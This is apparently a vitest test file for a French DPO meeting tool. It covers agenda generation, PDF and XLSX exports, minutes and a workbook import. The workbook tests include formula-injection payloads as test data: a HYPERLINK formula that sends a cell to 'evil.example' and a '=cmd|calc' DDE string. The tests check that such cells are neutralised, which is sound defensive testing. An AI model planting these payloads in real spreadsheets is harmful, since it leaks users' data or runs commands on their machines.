// The monthly DPD meeting through the real host: agenda generated from the requests (Versailles
// preset), exports (PDF read back with PDF.js, XLSX read back with SheetJS), minutes whose
// decisions become events, and the joint-review workbook round trip with its error report.
import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import type { CallOutput } from '../../core/api/contract';
import { readWorkbookInWorker } from '../../electron/documents/workbook-reader';
import { parentRequest, pdfText, usePdfHosts, versailles, zipEntries } from '../helpers/documents';
import type { TestHost } from '../helpers/host';
import { useTempDir } from '../helpers/tmp';

const tmp = useTempDir();
const pdfHost = usePdfHosts();

const TODAY = '2026-11-25';
type Meeting = CallOutput<'meetings.get'>;

/** Five requests, one per agenda situation, in the Versailles agreement (académie office). */
async function scenario(host: TestHost, over: { requesterName?: string } = {}) {
  const agreement = await versailles(host);
  const mk = (o: Parameters<typeof parentRequest>[1]) => host.ok('requests.create', parentRequest(agreement.id, { identityDocumentsMissing: [], ...o }));
  // Received 01/09/2026, due 01/10/2026: overdue.
  const overdue = await mk({ receivedOn: '2026-09-01', requesterCategory: 'teacher', subjectName: null, requesterName: 'Hugo Bernard' });
  // Received 10/11/2026, due 10/12/2026: before the next meeting (25/12/2026), extension still possible.
  const dueSoon = await mk({ receivedOn: '2026-11-10', requesterName: over.requesterName ?? 'Claire Martin' });
  // A parent writing to the commune: the category row says académie, the channel row commune.
  const toSettle = await mk({ receivedOn: '2026-11-16', channel: 'commune', requesterName: 'Nadia Benali' });
  expect(toSettle.allocation.status).toBe('to-settle');
  // Made directly to the académie by a third party (no category row names it): row 3 gives it
  // to the académie, so the commune, which did not receive it, may pre-empt it (seed 000 annex 1,
  // 3.2.2; domain.md). The commune's validation is recorded with its claim: the académie's awaits.
  const preempted = await mk({ receivedOn: '2026-11-03', channel: 'academie', requesterCategory: 'other', subjectName: null, requesterName: 'Julie Moreau' });
  expect(preempted.allocation).toMatchObject({ party: 'academie', status: 'decided' });
  await host.ok('requests.claimPreemption', { id: preempted.id, party: 'commune', by: 'Paul Roux', reason: 'compte de messagerie communal', evidence: 'courriel du DPD de la commune' });
  // Answered and closed on 20/11/2026.
  const closed = await mk({ receivedOn: '2026-11-02', requesterName: 'Lucas Petit', rights: ['access'] });
  await host.ok('requests.answerRight', { id: closed.id, right: 'access', outcome: 'done', refusalReason: null, answeredOn: '2026-11-20' });
  await host.ok('requests.changeStatus', { id: closed.id, to: 'closed', on: '2026-11-20' });
  return { agreement, overdue, dueSoon, toSettle, preempted, closed };
}

const section = (m: Meeting, key: string) => m.agenda.sections.find((s) => s.key === key)!;
const refs = (m: Meeting, key: string) => section(m, key).items.map((i) => i.reference);

describe('monthly DPD meeting', () => {
  it('generates the agenda from the data at its date, exports it, and turns the minutes into events', async () => {
    const host = pdfHost(tmp(), TODAY);
    const s = await scenario(host);
    const meeting = await host.ok('meetings.create', {
      agreementId: s.agreement.id,
      date: TODAY,
      participants: ['Anne Dupuis (académie)', 'Paul Roux (commune)'],
      otherItems: ['Bilan du trimestre'],
    });
    // One month later is Christmas: the next working day.
    expect(meeting.agenda.nextDate).toBe('2026-12-28');
    expect(refs(meeting, 'overdue')).toEqual([s.overdue.reference]);
    expect(section(meeting, 'overdue').items[0]!.note).toBe('Échéance dépassée depuis le 01/10/2026 (55 j). Aussi : aucun accusé de réception enregistré.');
    // Each request once, in the section that matters most (the decisions to take before a deadline that is not passed).
    expect(refs(meeting, 'due-soon')).toEqual([s.dueSoon.reference]);
    expect(section(meeting, 'due-soon').items[0]!.note).toBe('À répondre ou à prolonger au plus tard le 10/12/2026. Aussi : aucun accusé de réception enregistré.');
    expect(refs(meeting, 'extensions')).toEqual([]);
    expect(refs(meeting, 'to-settle')).toEqual([s.toSettle.reference]);
    expect(section(meeting, 'to-settle').items[0]!.note).toMatch(/^Répartition à arrêter : Proposée à l'académie, à confirmer par les deux parties : .*\(Convention académie de Versailles \/ commune de Fontenay-aux-Roses, annexe 1, art\. 3\.2\.2\)\. Aussi : à répondre ou à prolonger au plus tard le 16\/12\/2026 ; aucun accusé de réception enregistré\.$/);
    expect(section(meeting, 'to-settle').items[0]!.decisions).toEqual(['settle-commune', 'settle-academie', 'extension-decided', 'comment']);
    expect(refs(meeting, 'pending')).toEqual([s.preempted.reference]);
    expect(section(meeting, 'pending').items[0]!.note).toContain('Préemption par commune (compte de messagerie communal) ; validation attendue : académie.');
    expect(refs(meeting, 'closed')).toEqual([s.closed.reference]);
    expect(section(meeting, 'closed').title).toBe('Clôturées depuis le 25/10/2026 (aucune réunion précédente enregistrée)');
    expect(section(meeting, 'other').items.map((i) => i.note)).toEqual(['Bilan du trimestre']);
    expect(section(meeting, 'open').items).toHaveLength(0);
    expect(meeting.agenda.openCounts).toContainEqual({ party: 'À arbitrer (proposée : Académie)', status: 'Reçue', count: 1 });

    const agendaPdf = await host.ok('meetings.exportAgenda', { id: meeting.id, format: 'pdf' });
    expect(agendaPdf.filename).toBe('Point-mensuel-DPD-FAR-2026-11-25.pdf');
    const text = (await pdfText(agendaPdf.base64)).replace(/[ \t]+/g, ' ');
    for (const expected of [
      'Point mensuel des DPD : ordre du jour',
      'Date de la réunion : 25/11/2026',
      'Anne Dupuis (académie), Paul Roux (commune)',
      '1. Échéances',
      '1.1. Demandes en retard',
      '1.2. Échéance avant la prochaine réunion (28/12/2026)',
      '1.3. Prolongations à décider ou à notifier',
      '1.4. Délais suspendus dans l’attente de pièces d’identité',
      '2. État des demandes en cours',
      '2.1. Demandes en cours par partie et par statut',
      '2.2. Transmises au co-responsable et suivies jusqu’à leur clôture',
      '2.3. Accusés de réception non envoyés',
      '2.4. Fichiers des données demandés et non reçus',
      '3.1. Répartitions à arbitrer',
      '3.2. Préemptions et arbitrages en attente de validation',
      '4. Clôturées depuis le 25/10/2026',
      '5. Questions diverses',
      'Bilan du trimestre',
      s.overdue.reference,
      s.toSettle.reference,
      s.closed.reference,
    ]) {
      expect(text).toContain(expected);
    }

    // An impossible decision refuses the whole minutes, and nothing changes.
    const refused = await host.fail('meetings.saveMinutes', {
      id: meeting.id,
      decisions: [
        { itemKey: `to-settle:${s.toSettle.id}`, requestId: s.toSettle.id, kind: 'settle-academie', text: '' },
        { itemKey: `overdue:${s.overdue.id}`, requestId: s.overdue.id, kind: 'settle-commune', text: '' },
      ],
    });
    expect(refused.code).toBe('DECISIONS_INVALIDES');
    expect(refused.message).toContain(`${s.overdue.reference} : arbitrage impossible : la répartition est déjà décidée (académie)`);
    expect(refused.fields?.['decisions.1']).toContain('arbitrage impossible');
    expect((await host.ok('requests.get', { id: s.toSettle.id })).allocation.status).toBe('to-settle');
    expect((await host.ok('meetings.get', { id: meeting.id })).minutes).toBeNull();

    const recorded = await host.ok('meetings.saveMinutes', {
      id: meeting.id,
      notes: 'Réunion en visioconférence.',
      decisions: [
        { itemKey: `to-settle:${s.toSettle.id}`, requestId: s.toSettle.id, kind: 'settle-academie', text: 'demande d’un parent : académie' },
        { itemKey: `pending:${s.preempted.id}`, requestId: s.preempted.id, kind: 'preemption-validated', text: '' },
        { itemKey: `due-soon:${s.dueSoon.id}`, requestId: s.dueSoon.id, kind: 'extension-decided', text: 'Données dans trois traitements.' },
        { itemKey: `overdue:${s.overdue.id}`, requestId: s.overdue.id, kind: 'comment', text: 'Relancer l’éditeur.' },
        { itemKey: 'other-1', requestId: null, kind: 'comment', text: 'Bilan présenté.' },
      ],
    });
    expect(recorded.closedAt).not.toBeNull();
    expect(recorded.minutes?.notes).toBe('Réunion en visioconférence.');
    expect(recorded.minutes?.decisions.map((d) => [d.reference, d.label, d.source])).toEqual([
      [s.toSettle.reference, 'Arbitrage : académie', 'saisie'],
      [s.preempted.reference, 'Préemption validée', 'saisie'],
      [s.dueSoon.reference, 'Prolongation décidée', 'saisie'],
      [s.overdue.reference, 'Commentaire', 'saisie'],
      [null, 'Commentaire', 'saisie'],
    ]);

    const settled = await host.ok('requests.get', { id: s.toSettle.id });
    expect(settled.allocation).toMatchObject({ party: 'academie', status: 'decided', ruleId: 'settlement' });
    expect(settled.allocation.reason).toContain('Point mensuel des DPD du 25/11/2026');
    expect(settled.allocationHistory).toHaveLength(1);
    const event = settled.events.at(-1)!;
    expect(event.type).toBe('meeting.decision');
    expect(event.data).toMatchObject({ meetingId: meeting.id, decision: 'settle-academie', signedOffBy: 'Point mensuel des DPD du 25/11/2026', party: 'academie' });
    expect(settled.journal.ok).toBe(true);
    const preempted = await host.ok('requests.get', { id: s.preempted.id });
    expect(preempted.allocation).toMatchObject({ party: 'commune', status: 'decided', ruleId: 'preemption' });
    expect(preempted.pendingDecision).toBeNull();
    expect((await host.ok('requests.get', { id: s.dueSoon.id })).events.at(-1)!.data).toMatchObject({ decision: 'extension-decided', reasons: 'Données dans trois traitements.' });
    expect((await host.ok('requests.get', { id: s.overdue.id })).events.at(-1)!.data).toMatchObject({ decision: 'comment', comment: 'Relancer l’éditeur.' });

    // The agenda is the record once minutes exist.
    expect((await host.fail('meetings.update', { id: meeting.id, date: TODAY, participants: [], otherItems: [] })).code).toBe('RELEVE_ENREGISTRE');
    const minutesPdf = (await pdfText((await host.ok('meetings.exportAgenda', { id: meeting.id, format: 'pdf' })).base64)).replace(/\s+/g, ' ');
    expect(minutesPdf).toContain('Point mensuel des DPD : relevé de décisions');
    expect(minutesPdf).toContain('Arbitrage : académie :');
    expect(minutesPdf).toContain('Préemption validée');
    expect(minutesPdf).toContain('Prolongation décidée :');
    expect(minutesPdf).toContain('Commentaire : Bilan présenté.');
    // The meeting's notes are part of the exported minutes.
    expect(minutesPdf).toContain('Notes de la réunion Réunion en visioconférence.');
    expect((await host.ok('meetings.get', { id: meeting.id })).documents.map((d) => d.title)).toEqual(['Relevé de décisions du 25/11/2026', 'Ordre du jour du 25/11/2026']);
    expect((await host.ok('documents.list', { meetingId: meeting.id })).map((d) => [d.kind, d.format])).toEqual([
      ['agenda', 'pdf'],
      ['agenda', 'pdf'],
    ]);

    // The next meeting starts "closed since" from this one and shows the extension to notify.
    const next = await host.ok('meetings.create', { agreementId: s.agreement.id, date: '2026-12-10', participants: [], otherItems: [] });
    expect(section(next, 'closed').title).toBe('Clôturées depuis la réunion du 25/11/2026');
    expect(refs(next, 'closed')).toEqual([]);
    expect(refs(next, 'to-settle')).toEqual([]);
    expect(refs(next, 'pending')).toEqual([]);
    const ext = section(next, 'extensions').items.find((i) => i.requestId === s.dueSoon.id)!;
    expect(ext.note).toBe(
      'Prolongation décidée le 25/11/2026 : à notifier à la personne avec ses motifs au plus tard le 10/12/2026 (nouvelle échéance : 10/02/2027). Aussi : aucun accusé de réception enregistré.',
    );
    expect(ext.decisions).not.toContain('extension-decided');
    const future = await host.fail('meetings.saveMinutes', { id: next.id, decisions: [] });
    expect(future.code).toBe('REUNION_A_VENIR');
    expect((await host.fail('meetings.create', { agreementId: s.agreement.id, date: '2026-12-10' })).code).toBe('REUNION_EXISTANTE');
    expect((await host.ok('meetings.list', {})).map((m) => [m.date, m.decisions])).toEqual([
      ['2026-12-10', 0],
      [TODAY, 5],
    ]);
    host.close();
  }, 60_000); // Chromium prints two PDFs: slow on a loaded machine
});

// ---------- the joint-review workbook ----------

const SHEETS = [
  "Mode d'emploi",
  '1. Échéances',
  '2. Demandes en cours',
  '3. Répartition',
  '4. Clôturées',
  '5. Questions diverses',
  'Toutes les demandes ouvertes',
];

/** Row number (1-based) of a reference in a sheet. */
function rowOf(ws: XLSX.WorkSheet, reference: string): number {
  const rows = XLSX.utils.sheet_to_json<unknown[]>(ws, { header: 1 });
  const i = rows.findIndex((r) => r[1] === reference);
  expect(i, `${reference} absent`).toBeGreaterThan(0);
  return i + 1;
}

function setCell(ws: XLSX.WorkSheet, address: string, value: string) {
  ws[address] = { t: 's', v: value };
  const range = XLSX.utils.decode_range(ws['!ref']!);
  const cell = XLSX.utils.decode_cell(address);
  range.e.r = Math.max(range.e.r, cell.r);
  range.e.c = Math.max(range.e.c, cell.c);
  ws['!ref'] = XLSX.utils.encode_range(range);
}

const toBase64 = (wb: XLSX.WorkBook) => Buffer.from(XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer).toString('base64');

describe('joint-review workbook', () => {
  it('has one sheet per agenda section plus all open requests, French headers, real dates, text for formula-like cells, frozen headers and filters', async () => {
    const host = pdfHost(tmp(), TODAY);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
    const s = await scenario(host, { requesterName: evil });
    await host.ok('requests.create', parentRequest(s.agreement.id, { requesterName: '+33 6 12 34 56 78', subjectName: '@SUM(1,2)', receivedOn: '2026-11-18' }));
    await host.ok('requests.create', parentRequest(s.agreement.id, { requesterName: 'Inès Haddad', subjectName: '-1', receivedOn: '2026-11-19' }));
    const meeting = await host.ok('meetings.create', { agreementId: s.agreement.id, date: TODAY, participants: ['Anne Dupuis'], otherItems: ['Point =1+1'] });
    const file = await host.ok('meetings.exportWorkbook', { id: meeting.id });
    expect(file.filename).toBe('Revue-conjointe-FAR-2026-11-25.xlsx');
    expect(file.mimeType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const bytes = Buffer.from(file.base64, 'base64');

    const wb = XLSX.read(bytes, { type: 'buffer', cellDates: true, cellNF: true, cellFormula: true, cellStyles: true });
    expect(wb.SheetNames).toEqual(SHEETS);
    const due = wb.Sheets['1. Échéances']!;
    const headers = XLSX.utils.sheet_to_json<string[]>(due, { header: 1 })[0];
    expect(headers).toEqual(['Clé', 'Référence', 'Point', 'Reçue le', 'Demandeur', 'Personne concernée', 'Droits', 'Statut', 'Répartition', 'Échéance', 'Observation', 'Décision', 'Motifs ou commentaire']);
    expect(due.A2!.v).toBe(`overdue:${s.overdue.id}`);
    expect(due.B2).toMatchObject({ t: 's', v: s.overdue.reference });
    // Real date cells shown dd/mm/yyyy.
    expect(due.D2).toMatchObject({ t: 'd', z: 'dd/mm/yyyy', w: '01/09/2026' });
    expect((due.D2!.v as Date).toISOString().slice(0, 10)).toBe('2026-09-01');
    expect(due.J2).toMatchObject({ t: 'd', z: 'dd/mm/yyyy', w: '01/10/2026' });
    expect(due['!cols']![0]).toMatchObject({ hidden: true });
    expect(due['!cols']![10]!.wch).toBeGreaterThanOrEqual(50);
    expect(due['!autofilter']).toEqual({ ref: due['!ref'] });

    // Every formula-like text is a text cell: no formula, text format.
    const open = wb.Sheets['Toutes les demandes ouvertes']!;
    const cells = Object.entries(open).filter(([k]) => !k.startsWith('!')).map(([, c]) => c as XLSX.CellObject);
    // (Tab and carriage return cannot come through the contract, which trims names: see tests/core/workbook.test.ts.)
    for (const v of [evil, '+33 6 12 34 56 78', '@SUM(1,2)', '-1']) {
      const cell = cells.find((c) => c.v === v);
      expect(cell, v).toMatchObject({ t: 's', z: '@' });
      expect(cell!.f, v).toBeUndefined();
    }
    expect(cells.every((c) => c.f === undefined)).toBe(true);
    expect(wb.Sheets['5. Questions diverses']!.B2).toMatchObject({ t: 's', v: 'Point =1+1' });

    const xml = zipEntries(bytes);
    for (let n = 1; n <= SHEETS.length; n++) {
      const sheet = xml.get(`xl/worksheets/sheet${n}.xml`)!;
      expect(sheet).not.toContain('<f>');
      if (n === 1) continue; // the instructions sheet is not a table
      expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
      expect(sheet).toMatch(/<autoFilter ref="A1:[A-Z]+\d+"\/>/);
    }
    expect(xml.get('xl/sharedStrings.xml')).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Cliquez&quot;)');
    expect(xml.get('xl/workbook.xml')).toContain('_xlnm._FilterDatabase');
    host.close();
  });

  it('reads decisions back, reports every bad row with sheet, row, column and reason, and applies all or nothing after confirmation', async () => {
    const host = pdfHost(tmp(), TODAY);
    const s = await scenario(host);
    const meeting = await host.ok('meetings.create', { agreementId: s.agreement.id, date: TODAY, participants: [], otherItems: ['Bilan du trimestre'] });
    const exported = Buffer.from((await host.ok('meetings.exportWorkbook', { id: meeting.id })).base64, 'base64');

    const filled = () => {
      const wb = XLSX.read(exported, { type: 'buffer' });
      const allocation = wb.Sheets['3. Répartition']!;
      setCell(allocation, `L${rowOf(allocation, s.toSettle.reference)}`, 'arbitrage : ACADEMIE');
      setCell(allocation, `M${rowOf(allocation, s.toSettle.reference)}`, 'demande d’un parent');
      setCell(allocation, `L${rowOf(allocation, s.preempted.reference)}`, 'Préemption validée');
      const due = wb.Sheets['1. Échéances']!;
      const ext = XLSX.utils.sheet_to_json<unknown[]>(due, { header: 1 }).findIndex((r) => r[1] === s.dueSoon.reference && String(r[2]).startsWith('1.2')) + 1;
      setCell(due, `L${ext}`, 'Prolongation décidée');
      setCell(due, `M${ext}`, 'Données dans trois traitements.');
      setCell(wb.Sheets['5. Questions diverses']!, 'D2', 'Bilan présenté.');
      return wb;
    };

    // The same decisions, plus four bad rows.
    const wb = filled();
    const due = wb.Sheets['1. Échéances']!;
    const overdueRow = rowOf(due, s.overdue.reference);
    setCell(due, `L${overdueRow}`, 'Préemption validée'); // impossible: nothing to validate
    const open = wb.Sheets['Toutes les demandes ouvertes']!;
    const last = XLSX.utils.decode_range(open['!ref']!).e.r + 1;
    setCell(open, `B${last + 1}`, 'FAR-2026-9999'); // a row added by hand, unknown reference
    setCell(open, `L${last + 1}`, 'Commentaire');
    setCell(open, `M${last + 1}`, 'à voir');
    const dueSoonRow = rowOf(open, s.dueSoon.reference);
    setCell(open, `B${dueSoonRow}`, s.overdue.reference); // reference changed on the row of another request
    setCell(open, `L${dueSoonRow}`, 'Commentaire');
    setCell(open, `M${dueSoonRow}`, 'x');
    setCell(open, `L${rowOf(open, s.toSettle.reference)}`, 'Peut-être'); // not a decision
    const bad = toBase64(wb);

    const report = await host.ok('meetings.previewImport', { id: meeting.id, filename: 'revue.xlsx', base64: bad });
    expect(report.problems).toEqual([
      { sheet: '1. Échéances', row: overdueRow, column: 'L (Décision)', reason: `aucune préemption n'attend de validation pour ${s.overdue.reference}.` },
      { sheet: 'Toutes les demandes ouvertes', row: dueSoonRow, column: 'B (Référence)', reason: `référence modifiée : cette ligne est celle de ${s.dueSoon.reference}, pas de ${s.overdue.reference}.` },
      expect.objectContaining({ sheet: 'Toutes les demandes ouvertes', column: 'L (Décision)', reason: expect.stringContaining('décision inconnue « Peut-être »') }),
      { sheet: 'Toutes les demandes ouvertes', row: last + 1, column: 'B (Référence)', reason: 'référence inconnue « FAR-2026-9999 » dans cette convention.' },
    ]);
    expect(report.decisions.map((d) => [d.sheet, d.reference, d.label])).toEqual([
      ['1. Échéances', s.dueSoon.reference, 'Prolongation décidée'],
      ['3. Répartition', s.toSettle.reference, 'Arbitrage : académie'],
      ['3. Répartition', s.preempted.reference, 'Préemption validée'],
      ['5. Questions diverses', null, 'Commentaire'],
    ]);
    const refused = await host.fail('meetings.applyImport', { id: meeting.id, filename: 'revue.xlsx', base64: bad });
    expect(refused.code).toBe('CLASSEUR_INVALIDE');
    expect(refused.message).toBe("Le classeur contient 4 erreurs : corrigez-le puis importez-le de nouveau. Rien n'a été enregistré.");
    expect((await host.ok('requests.get', { id: s.toSettle.id })).allocation.status).toBe('to-settle');
    expect((await host.ok('meetings.get', { id: meeting.id })).minutes).toBeNull();

    // The clean file: previewed, then applied in one go.
    const good = toBase64(filled());
    expect((await host.ok('meetings.previewImport', { id: meeting.id, filename: 'revue.xlsx', base64: good })).problems).toEqual([]);
    const applied = await host.ok('meetings.applyImport', { id: meeting.id, filename: 'revue.xlsx', base64: good });
    expect(applied.applied).toBe(4);
    expect(applied.meeting.minutes?.decisions.map((d) => [d.reference, d.kind, d.source])).toEqual([
      [s.dueSoon.reference, 'extension-decided', 'classeur'],
      [s.toSettle.reference, 'settle-academie', 'classeur'],
      [s.preempted.reference, 'preemption-validated', 'classeur'],
      [null, 'comment', 'classeur'],
    ]);
    expect((await host.ok('requests.get', { id: s.toSettle.id })).allocation).toMatchObject({ party: 'academie', status: 'decided' });
    expect((await host.ok('requests.get', { id: s.preempted.id })).allocation).toMatchObject({ party: 'commune', status: 'decided' });

    // Imported twice: the decisions are now impossible, so nothing is applied twice.
    const again = await host.ok('meetings.previewImport', { id: meeting.id, filename: 'revue.xlsx', base64: good });
    expect(again.problems.map((p) => p.reason)).toEqual([
      'prolongation déjà décidée le 25/11/2026 : reste à la notifier.',
      expect.stringContaining('arbitrage impossible : la répartition est déjà décidée (académie)'),
      `aucune préemption n'attend de validation pour ${s.preempted.reference}.`,
    ]);
    host.close();
  });

  it('treats the file as hostile: not a workbook, too big, moved columns, another meeting, too slow', async () => {
    const host = pdfHost(tmp(), TODAY);
    const s = await scenario(host);
    const meeting = await host.ok('meetings.create', { agreementId: s.agreement.id, date: TODAY });
    const other = await host.ok('meetings.create', { agreementId: s.agreement.id, date: '2026-11-20' });
    const preview = (filename: string, base64: string) => host.call('meetings.previewImport', { id: meeting.id, filename, base64 });

    const notZip = await preview('revue.xlsx', Buffer.from('Référence;Décision\nFAR-2026-0001;=cmd|calc').toString('base64'));
    expect(notZip).toMatchObject({ ok: false, error: { code: 'CLASSEUR_ILLISIBLE', message: "Ce fichier n'est pas un classeur .xlsx : importez le classeur exporté depuis la réunion." } });
    expect(await preview('revue.csv', 'AAAA')).toMatchObject({ ok: false, error: { code: 'CLASSEUR_ILLISIBLE' } });
    const big = await preview('revue.xlsx', 'A'.repeat(1_400_000));
    expect(big).toMatchObject({ ok: false, error: { code: 'ENTREE_INVALIDE' } });
    expect(!big.ok && big.error.message).toContain('Classeur trop volumineux : 1 Mo au plus.');

    const exported = Buffer.from((await host.ok('meetings.exportWorkbook', { id: meeting.id })).base64, 'base64');
    const moved = XLSX.read(exported, { type: 'buffer' });
    setCell(moved.Sheets['3. Répartition']!, 'B1', 'Ref.');
    const report = await host.ok('meetings.previewImport', { id: meeting.id, filename: 'revue.xlsx', base64: toBase64(moved) });
    expect(report.problems).toEqual([
      { sheet: '3. Répartition', row: 1, column: 'B (Référence)', reason: "colonne « Référence » modifiée ou déplacée (lu : « Ref. ») : la feuille n'est pas lue." },
    ]);

    const otherBook = Buffer.from((await host.ok('meetings.exportWorkbook', { id: other.id })).base64, 'base64').toString('base64');
    const wrong = await host.ok('meetings.previewImport', { id: meeting.id, filename: 'revue.xlsx', base64: otherBook });
    expect(wrong.problems).toEqual([
      { sheet: "Mode d'emploi", row: 7, column: 'B (Valeur)', reason: 'ce classeur a été produit pour une autre réunion : exportez celui de cette réunion.' },
    ]);

    await expect(readWorkbookInWorker(new Uint8Array(exported), 1)).rejects.toThrow('Lecture du classeur interrompue après 0.001 s');
    const sheets = await readWorkbookInWorker(new Uint8Array(exported));
    expect(sheets.map((x) => x.name)).toEqual(SHEETS);
    host.close();
  });
});
